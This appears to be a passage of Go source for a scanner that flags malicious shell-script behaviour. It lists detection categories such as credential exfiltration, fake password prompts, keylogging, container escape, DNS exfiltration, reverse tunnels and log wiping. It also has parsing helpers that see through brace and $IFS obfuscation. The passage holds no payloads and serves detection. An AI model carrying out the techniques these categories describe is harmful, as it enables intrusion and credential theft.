	hitShadowAlias                 // an alias written into a start-up file that shadows a command with a hidden program
	hitLogWipe                     // logs or shell history wiped or turned off
	hitSelfDelete                  // the script deletes its own file (a marker for the findings, never reported)
	hitPrompt                      // the script waits for keys at a terminal (a marker for the findings, never reported)
	hitSudoGrant                   // the script writes a sudoers grant of every command to a user (a marker, never reported)
	hitMinerPrep                   // the machine readied for mining and cleared of rival miners
	hitPasswordSet                 // a password set without a prompt
	hitRootAccount                 // an account given uid 0
	hitTrojanScript                // a script where a system program belongs, running a hidden copy
	hitCredSend                    // credentials sent off the machine, by data flow
	hitCredSendKey                 // keys or password hashes sent off the machine, by data flow
	hitCredNear                    // credentials collected and data sent off the machine in one script
	hitFakePrompt                  // a fake password prompt keeping what is typed
	hitPromptAlias                 // a script putting a program in front of sudo or su in a shell rc file
	hitEscape                      // a container breaking out to its host
	hitCredSweep                   // several credential stores read at once, nothing sent
	hitCredCapture                 // a process that handles passwords traced or its memory read
	hitKeylog                      // keystrokes captured and kept or sent
	hitUdevDaemon                  // a udev rule that leaves a program running on device events
	hitTimestomp                   // a file's times set to hide when it was written
	hitTunnel                      // an SSH tunnel back into the machine (ssh -R, -w, -D) kept open
	hitHTTPAgent                   // a loop running what a web server returns and sending the output back
	hitSetuidShell                 // a shell or interpreter (or a copy of one) given the setuid bit
	hitProxyClient                 // a reverse proxy client (frp, chisel, ngrok) publishing a local service elsewhere
	hitCredStage                   // credentials gathered into an archive or a place aside, nothing sent
	hitArchDrop                    // a program fetched for each of several CPU architectures and run
	hitDNSExfil                    // data encoded into the names a program looks up
	hitDNSCommand                  // what a DNS answer carries run as a command or code
)

// hit is one behaviour found.
type hit struct {
	kind     hitKind
	lang     string // hitLang: the language
	evidence string
	line     int
	chain    []string
	place    string // the persistence place the code was written into, "" for the file's own place
	from     string // the endpoint or URL
	detail   string // what the title adds ("bind shell", the file run)
	blob     bool   // found in a file that is one encoded blob
	critical bool   // raised to critical (a sudoers grant to every user or a service account)
	// asUser: a tunnel a systemd unit keeps up as this unprivileged user, with nothing typed for
	// it and host keys checked (see serviceTunnels)
	asUser string
	plain  bool // hitTunnel: no password typed for it, host keys checked, no tun device, no loop
	// keyOnly: hitTunnel: no password typed for it, no tun device
	keyOnly bool
}

type hitList struct {
	hits []hit
	seen map[string]bool
}

func (l *hitList) add(h hit) {
	if l.seen == nil {
		l.seen = map[string]bool{}
	}
	k := strconv.Itoa(int(h.kind)) + "\x00" + h.lang + "\x00" + h.evidence + "\x00" + h.place + "\x00" + strings.Join(h.chain, ">")
	if l.seen[k] || len(l.hits) >= 64 {
		return
	}
	l.seen[k] = true
	l.hits = append(l.hits, h)
}

// maxBraceWords bounds the words one brace expansion makes.
const maxBraceWords = 32

// braceWords returns the words an unquoted brace expansion in w makes ({a,b} is a and b),
// nil when w has none. Sequences ({1..9}) are left alone: no command is spelled with one,
// and a range can ask for millions of words.
func braceWords(w *syntax.Word) []*syntax.Word {
	if w == nil || len(w.Parts) == 0 {
		return nil
	}
	hasBrace := false
	for _, p := range w.Parts {
		if l, ok := p.(*syntax.Lit); ok && strings.Contains(l.Value, "{") && strings.Contains(l.Value, ",") {
			hasBrace = true
			break
		}
	}
	if !hasBrace {
		return nil
	}
	cp := &syntax.Word{Parts: slices.Clone(w.Parts)}
	if !syntax.SplitBraces(cp) || sequenceBrace(cp.Parts) {
		return nil
	}
	ws := shexpand.Braces(cp)
	if len(ws) < 2 || len(ws) > maxBraceWords {
		return nil
	}
	return ws
}

func sequenceBrace(parts []syntax.WordPart) bool {
	for _, p := range parts {
		if b, ok := p.(*syntax.BraceExp); ok {
			if b.Sequence {
				return true
			}
			for _, e := range b.Elems {
				if sequenceBrace(e.Parts) {
					return true
				}
			}
		}
	}
	return false
}

// ifsSplit returns the parts of w between its unquoted $IFS or ${IFS} expansions, nil when w
// has none.
func ifsSplit(w *syntax.Word) [][]syntax.WordPart {
	var groups [][]syntax.WordPart
	start, found := 0, false
	for i, p := range w.Parts {
		x, ok := p.(*syntax.ParamExp)
		if !ok || x.Param == nil || x.Param.Value != "IFS" || x.Exp != nil || x.Slice != nil || x.Repl != nil || x.Length || x.Excl || x.Index != nil {
			continue
		}
		found = true
		groups = append(groups, w.Parts[start:i])
		start = i + 1
	}
	if !found {
		return nil
	}
	return append(groups, w.Parts[start:])
}

// cgiVars are the environment variables that carry a request to a CGI script.
var cgiVars = map[string]bool{"QUERY_STRING": true, "REQUEST_URI": true, "PATH_INFO": true, "PATH_TRANSLATED": true,
	"REDIRECT_QUERY_STRING": true, "REDIRECT_URL": true}

// passOrder records, in the order a pass made them, the lookups and writes of files and
// named pipes: a pass whose every lookup came after the last write of what it looked up
// saw the files as they ended, and a second pass would see the same.
type passOrder struct {
	seq      int
	looked   map[string]int // first lookup of each path
	written  map[string]int // last write of each path
	anyAt    int            // first lookup of any file (a search of them all), 0 for none
	lastEver int            // the last write of anything (callWorthRunning keys function calls by it)
}

func (o *passOrder) lookup(key string) {
	o.seq++
	if key == "*" {
		if o.anyAt == 0 {
			o.anyAt = o.seq
		}
		return
	}
	if o.looked == nil {
		o.looked = map[string]int{}
	}
	if _, ok := o.looked[key]; !ok {
		o.looked[key] = o.seq
	}
}

func (o *passOrder) write(key string) {
	o.seq++
	if o.written == nil {
		o.written = map[string]int{}
	}
	o.written[key] = o.seq
	o.lastEver = o.seq
}

// stale reports whether something was looked up before its last write.
func (o *passOrder) stale() bool {
	if o.anyAt != 0 && o.lastEver > o.anyAt {
		return true
	}
	for k, at := range o.looked {
		if o.written[k] > at {
			return true
		}
	}
	return false
}

// file returns what the script wrote into p.
func (a *analysis) file(p string) (val, bool) {
	a.order.lookup("f" + p)
	v, ok := a.files[p]
	return v, ok
}

// anyFileLookup records a search of all the files the script wrote.
func (a *analysis) anyFileLookup() { a.order.lookup("*") }

// putFile records what the script wrote into p.
func (a *analysis) putFile(p string, v val) {
	a.order.write("f" + p)
	a.files[p] = v
}

// isFifo reports whether the script made p a named pipe.
func (a *analysis) isFifo(p string) bool {
	a.order.lookup("p" + p)
	return a.fifos[p]
}

// addFifo records a named pipe the script made.
func (a *analysis) addFifo(p string) {
	a.order.write("p" + p)
	a.fifos[p] = true
}
